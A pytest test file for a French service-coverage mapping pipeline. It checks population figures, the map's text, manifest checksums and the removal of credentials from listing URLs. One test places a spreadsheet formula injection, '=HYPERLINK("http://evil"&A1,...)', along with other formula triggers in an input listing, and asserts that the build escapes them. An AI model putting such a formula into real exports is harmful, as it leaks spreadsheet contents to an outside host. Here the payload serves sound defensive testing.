"""End to end on the embedded data: the 101 départements, the example's placements and
figures, checked against the data files themselves."""

from __future__ import annotations

import csv
import importlib.util
import io
import json
import shutil
from pathlib import Path

import pytest

from ips_map.errors import ListingError
from ips_map.pipeline import build
from ips_map.settings import BuildSettings
from tests.helpers import write_listing

ROOT = Path(__file__).resolve().parent.parent
POPULATIONS = ROOT / "data" / "census" / "departements_population_municipale_2019_2023.csv"
EXAMPLE_SOURCES = ROOT / "data" / "services" / "exemple-sources.csv"


def read_csv(path: Path) -> list[dict]:
    """A CSV file: a data file (",") or an output of a build (";", the default format)."""
    with open(path, encoding="utf-8-sig", newline="") as fh:
        delimiter = ";" if ";" in fh.readline() else ","
        fh.seek(0)
        return list(csv.DictReader(fh, delimiter=delimiter))


def populations(year: int) -> dict[str, int]:
    return {r["code_departement"]: int(r[f"pmun_{year}"]) for r in read_csv(POPULATIONS)}


def test_coverage_table_has_the_101_departements_as_strings(example_build):
    rows = read_csv(example_build.outputs["coverage"])
    codes = [r["code"] for r in rows]
    assert len(codes) == 101 == len(set(codes))
    assert {"01", "2A", "2B", "971", "972", "973", "974", "976"} <= set(codes)
    assert "20" not in codes and "1" not in codes
    expected_columns = {
        "code",
        "nom",
        "code_region",
        "population",
        "annee_population",
        "services_actifs",
        "services_en_projet",
        "statut",
        "services_pour_100k",
    }
    assert expected_columns <= set(rows[0])


def test_example_rows_are_placed_in_their_source_departement(example_build):
    sources = read_csv(EXAMPLE_SOURCES)
    services = read_csv(example_build.outputs["services"])
    assert len(services) == len(sources)
    assert read_csv(example_build.outputs["rejects"]) == []
    for source, service in zip(sources, services):
        assert service["nom"] == source["nom"]
        assert service["methode"] == "code_commune"
        assert service["code_commune_trouve"] == source["code_commune_insee"]
        assert service["code_departement"] == source["code_departement"]
        assert service["source"] == source["source_url"]


def test_example_figures_follow_from_the_data(example_build):
    sources = read_csv(EXAMPLE_SOURCES)
    pop = populations(2023)
    covered = {s["code_departement"] for s in sources}
    per_dep = {code: sum(s["code_departement"] == code for s in sources) for code in covered}
    rows = {r["code"]: r for r in read_csv(example_build.outputs["coverage"])}
    for code, row in rows.items():
        assert int(row["population"]) == pop[code]
        assert row["annee_population"] == "2023"
        if code in covered:
            assert row["statut"] == "couvert"
            assert int(row["services_actifs"]) == per_dep[code]
            assert float(row["services_pour_100k"].replace(",", ".")) == pytest.approx(
                per_dep[code] / pop[code] * 1e5, abs=1e-3
            )
        else:
            assert row["statut"] == "non_couvert"
            assert row["services_pour_100k"] == "0"

    summary = json.loads(example_build.outputs["summary"].read_text(encoding="utf-8"))
    uncovered_pop = sum(p for c, p in pop.items() if c not in covered)
    assert summary["departements"] == 101
    assert summary["departements_couverts"] == len(covered)
    assert summary["population_non_couverte"] == uncovered_pop
    assert summary["part_population_non_couverte"] == pytest.approx(
        uncovered_pop / sum(pop.values()), abs=1e-4
    )
    ranked = sorted((c for c in pop if c not in covered), key=lambda c: -pop[c])
    assert summary["non_couverts_par_population"] == ranked
    assert summary["lignes_lues"] == summary["lignes_placees"] == len(sources)
    assert summary["lignes_rejetees"] == 0
    assert summary["liste"]["exemple"] is True


def test_map_says_what_it_shows(example_build):
    html = example_build.outputs["map"].read_text(encoding="utf-8")
    assert "Exemple partiel" in html
    assert "millésime 2023" in html
    assert "Carte générée le 1er janvier 2026" in html
    assert "Insee" in html and "IGN" in html and "Licence Ouverte" in html
    # The listing is told by its date and where it comes from, not by a local file's name.
    assert "liste d'exemple, sources de" in html
    assert "exemple.csv" not in html


def test_outputs_written_atomically_without_leftovers(example_build):
    folder = example_build.outputs["map"].parent
    leftovers = [p.name for p in folder.iterdir() if p.name.startswith(".")]
    assert leftovers == []


def test_census_year_changes_every_population(tmp_path):
    result = build(BuildSettings(out=tmp_path, census_year=2019, build_date="2026-01-01"))
    pop = populations(2019)
    rows = read_csv(result.outputs["coverage"])
    assert all(int(r["population"]) == pop[r["code"]] for r in rows)
    assert {r["annee_population"] for r in rows} == {"2019"}
    assert "millésime 2019" in result.outputs["map"].read_text(encoding="utf-8")


def test_served_departements_and_planned_services(tmp_path):
    listing = write_listing(
        tmp_path / "liste.csv",
        "nom;code_commune;statut;departements_desservis\n"
        'Plateforme Rhône;69123;actif;"69 ; 01 et 42"\n'
        "Projet Creuse;23096;en projet;\n"
        "Ancien service;75056;fermé;\n",
    )
    result = build(BuildSettings(services=listing, out=tmp_path / "out", build_date="2026-01-01"))
    rows = {r["code"]: r for r in read_csv(result.outputs["coverage"])}
    assert {c for c, r in rows.items() if r["statut"] == "couvert"} == {"69", "01", "42"}
    assert {c for c, r in rows.items() if r["statut"] == "en_projet"} == {"23"}
    assert rows["75"]["statut"] == "non_couvert"
    assert rows["23"]["services_en_projet"] == "1"
    summary = json.loads(result.outputs["summary"].read_text(encoding="utf-8"))
    assert summary["services_fermes"] == 1
    assert summary["liste"]["exemple"] is False
    assert "Exemple partiel" not in result.outputs["map"].read_text(encoding="utf-8")


def test_failed_build_keeps_previous_outputs(tmp_path):
    first = build(BuildSettings(out=tmp_path, build_date="2026-01-01"))
    before = first.outputs["map"].read_bytes()
    bad = write_listing(tmp_path / "bad.csv", "nom,commune\n,Nulle-Part\n")
    with pytest.raises(ListingError, match="aucun service n'est placé"):
        build(BuildSettings(services=bad, out=tmp_path, build_date="2026-01-01"))
    assert first.outputs["map"].read_bytes() == before


def test_types_option_counts_and_draws_only_those_types(tmp_path):
    sources = read_csv(EXAMPLE_SOURCES)
    ips = {s["code_departement"] for s in sources if s["ips_explicit"] == "yes"}
    other = {s["code_departement"] for s in sources} - ips
    assert other, "the example mixes IPS and other services"
    result = build(BuildSettings(out=tmp_path, types=("ips",), build_date="2026-01-01"))
    rows = {r["code"]: r for r in read_csv(result.outputs["coverage"])}
    assert {c for c, r in rows.items() if r["statut"] == "couvert"} == ips
    for code in other:
        assert int(rows[code]["actifs_emploi_accompagne"]) > 0
    summary = json.loads(result.outputs["summary"].read_text(encoding="utf-8"))
    assert summary["types_comptes"] == ["ips"]
    assert summary["services_non_comptes"] == sum(s["ips_explicit"] != "yes" for s in sources)
    html = result.outputs["map"].read_text(encoding="utf-8")
    assert "Services comptés : IPS\n" in html or "Services comptés : IPS " in html


def test_listing_text_cannot_become_a_spreadsheet_formula(tmp_path):
    listing = write_listing(
        tmp_path / "liste.csv",
        "nom;structure;code_commune;statut;longitude;latitude\n"
        '=HYPERLINK("http://evil"&A1,"x");+1;69123;actif;;\n'
        "@SUM(1);-2+3;35238;actif;-1.68;48.11\n"
        "=1+2;x;@99;actif;;\n",
    )
    result = build(BuildSettings(services=listing, out=tmp_path / "out", build_date="2026-01-01"))
    services = read_csv(result.outputs["services"])
    assert [(s["nom"], s["structure"]) for s in services] == [
        ('\'=HYPERLINK("http://evil"&A1,"x")', "'+1"),
        ("'@SUM(1)", "'-2+3"),
    ]
    # The listing's text as written; the position placed, a number with a decimal comma.
    assert services[1]["longitude"] == "-1.68" and services[1]["longitude_placee"] == "-1,68"
    rejects = read_csv(result.outputs["rejects"])
    assert [r["nom"] for r in rejects] == ["'=1+2"]
    assert all(value[:1] not in ("=", "+", "-", "@") for r in rejects for value in r.values())
    text = result.outputs["services"].read_text(encoding="utf-8-sig")
    assert "\n=" not in text and ";=" not in text and ';"=' not in text


def test_out_folder_is_checked_before_the_long_steps(tmp_path, monkeypatch):
    from ips_map.errors import IpsMapError
    from ips_map.pipeline import prepare

    def never(*args, **kwargs):
        raise AssertionError("the listing is read before the output folder is checked")

    monkeypatch.setattr(prepare, "read_listing", never)
    (tmp_path / "afile").write_text("x")
    out = tmp_path / "afile" / "sub"
    with pytest.raises(IpsMapError, match=r"afile/sub : dossier des résultats impossible"):
        build(BuildSettings(out=out, build_date="2026-01-01"))


def test_a_listing_url_is_published_without_credentials_or_token(httpserver, tmp_path):
    httpserver.expect_request("/exports/liste.csv").respond_with_data(
        b"nom;code_commune;statut\nService Lyon;69123;actif\n"
    )
    base = httpserver.url_for("/exports/liste.csv")  # http://localhost:PORT/exports/liste.csv
    secret = base.replace("://", "://planif:MotDePasse42@") + "?token=JETON-SECRET#feuille"
    result = build(BuildSettings(services=secret, out=tmp_path / "out", build_date="2026-01-01"))
    assert httpserver.log, "the listing is downloaded with the full address"
    summary = result.outputs["summary"].read_text(encoding="utf-8")
    html = result.outputs["map"].read_text(encoding="utf-8")
    for text in (summary, html):
        assert "MotDePasse42" not in text and "JETON-SECRET" not in text and "planif" not in text
    liste = json.loads(summary)["liste"]
    assert liste["url"] == liste["fichier"] == base
    assert base in html


def test_the_example_listing_is_checked_against_the_manifest(tmp_path, monkeypatch):
    from ips_map.errors import DataFileError
    from ips_map.sources.registry import SOURCES, file_sha256

    data = tmp_path / "data"
    shutil.copytree(ROOT / "data", data, ignore=shutil.ignore_patterns("fetched"))
    monkeypatch.setenv("IPS_MAP_DATA_DIR", str(data))
    example = data / SOURCES["exemple"].path
    assert file_sha256(example) == SOURCES["exemple"].sha256
    result = build(BuildSettings(out=tmp_path / "ok", build_date="2026-01-01"))
    cited = {s["fichier"]: s for s in result.summary["sources"]}
    assert cited["data/services/exemple.csv"]["sha256"] == SOURCES["exemple"].sha256
    assert "data/services/exemple-sources.csv" in cited

    example.write_text(example.read_text(encoding="utf-8").replace("actif", "en projet", 1))
    with pytest.raises(DataFileError, match=r"exemple\.csv: le contenu ne correspond pas"):
        build(BuildSettings(out=tmp_path / "altered", build_date="2026-01-01"))
    assert not (tmp_path / "altered" / "summary.json").exists()


def test_the_example_is_what_make_example_derives_from_its_sources():
    spec = importlib.util.spec_from_file_location("make_example", ROOT / "scripts/make_example.py")
    script = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(script)
    with open(script.SOURCE, encoding="utf-8", newline="") as fh:
        rows = script.convert(list(csv.DictReader(fh)))
    buffer = io.StringIO(newline="")
    writer = csv.DictWriter(buffer, fieldnames=script.COLUMNS, lineterminator="\n")
    writer.writeheader()
    writer.writerows(rows)
    assert script.TARGET.read_text(encoding="utf-8") == buffer.getvalue()
